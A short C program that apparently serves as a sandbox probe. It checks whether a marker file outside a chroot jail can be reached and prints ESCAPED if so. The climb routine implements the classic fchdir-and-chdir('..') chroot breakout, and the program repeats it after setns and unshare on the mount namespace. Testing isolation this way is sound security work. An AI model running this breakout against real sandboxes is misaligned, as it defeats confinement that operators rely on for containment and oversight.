/* Ways out of a root directory that is not the top of the mount namespace. Prints ESCAPED when the marker is in sight. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *marker;

static void look(const char *how)
{
    char path[4096];
    snprintf(path, sizeof path, "/%s", marker);
    if (access(path, F_OK) == 0 || access(marker + 1, F_OK) == 0) {
        printf("ESCAPED by %s\n", how);
    }
}

/* The classic: a directory held open above a new root leads up and up. */
static void climb(const char *how)
{
    int before = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/out", 0755);
    if (chroot("/tmp/out") == 0 && fchdir(before) == 0) {
        for (int i = 0; i < 64; i++) {
            if (chdir("..") != 0) {
                break;
            }
        }
        if (chroot(".") == 0) {
            look(how);
        }
    }
    fchdir(before);
    chroot(".");
    close(before);
}

int main(int argc, char **argv)
{
    marker = argv[argc - 1];
    look("looking");
    climb("climbing");
    int own = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
    if (own >= 0 && setns(own, CLONE_NEWNS) == 0) {
        look("setns");
        climb("setns and climbing");
    }
    if (unshare(CLONE_NEWNS) == 0) {
        look("unshare");
        climb("unshare and climbing");
    }
    puts("done");
    return 0;
}
